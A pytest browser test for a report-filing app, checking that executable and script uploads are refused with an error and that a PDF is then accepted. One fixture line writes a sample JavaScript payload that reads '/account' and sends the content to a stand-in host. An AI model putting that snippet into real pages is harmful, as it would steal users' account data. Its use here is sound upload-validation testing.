"""In Debian's chromium: an officer attaches a Windows program, then a script file, to
a monthly report; each time the form comes back with the reason beside the file field
and the rest of what they typed, and nothing is filed. A PDF then goes through."""
from __future__ import annotations

import pytest

from engine.usecases.directives import import_directive
from engine.usecases.steps import complete_step
from tests.conftest import small_directive, user
from tests.file_samples import exe_bytes, pdf_bytes
from tests.web.task_helpers import pending, reports

pytestmark = pytest.mark.browser


def accepted(server) -> int:
    services = server.services
    import_directive(services, user(services, "admin"), small_directive())
    with services.uow(write=False) as uow:
        instance_id = uow.instances.of_task(uow.directives.tasks_of(1)[0].id)[0].id
    step = pending(services, instance_id, "accept")
    complete_step(services, user(services, "ld.khcn"), step.id, {"decision": "accept", "officer": "cv.khcn"})
    return instance_id


def test_a_program_and_a_script_are_refused_in_the_browser(person, live_server, tmp_path):
    instance_id = accepted(live_server)
    step = pending(live_server.services, instance_id, "monthly_report")
    program = tmp_path / "cai-dat-phan-mem.exe"
    program.write_bytes(exe_bytes())
    script = tmp_path / "lay-du-lieu.js"
    script.write_text("fetch('/account').then(r => r.text()).then(t => fetch('//x/?' + t))", encoding="utf-8")
    report = tmp_path / "bien-ban.pdf"
    report.write_bytes(pdf_bytes())

    before = reports(live_server.services, instance_id)
    assert [(r.period, r.status, r.versions) for r in before] == [("2025-06", "not_filed", [])]   # open from launch
    officer = person("cv.khcn")
    page = officer.open(f"/steps/{step.id}")
    for upload, shown in ((program, "«.exe»"), (script, "«.js»")):
        page.fill("input[name=percent]", "20")
        page.fill("textarea[name=done]", "Đã khảo sát 3 đơn vị.")
        page.set_input_files("input[name=evidence]", str(upload))
        with page.expect_navigation():
            page.click("form.step-form button[type=submit]")
        officer.shot(f"refused-{upload.suffix[1:]}")
        error = page.locator("#err-evidence").inner_text()
        assert upload.name in error and shown in error
        assert page.input_value("textarea[name=done]") == "Đã khảo sát 3 đơn vị."
        assert reports(live_server.services, instance_id) == before        # nothing filed

    page.set_input_files("input[name=evidence]", str(report))
    with page.expect_navigation():
        page.click("form.step-form button[type=submit]")
    assert "Đã hoàn thành bước" in page.locator(".flash").inner_text()
    [filed] = reports(live_server.services, instance_id)
    assert [e["filename"] for e in filed.versions[0].evidence] == ["bien-ban.pdf"]
    unexpected = [e for e in officer.errors if "status of 400" not in e]      # the refusals answer 400
    assert unexpected == [], unexpected
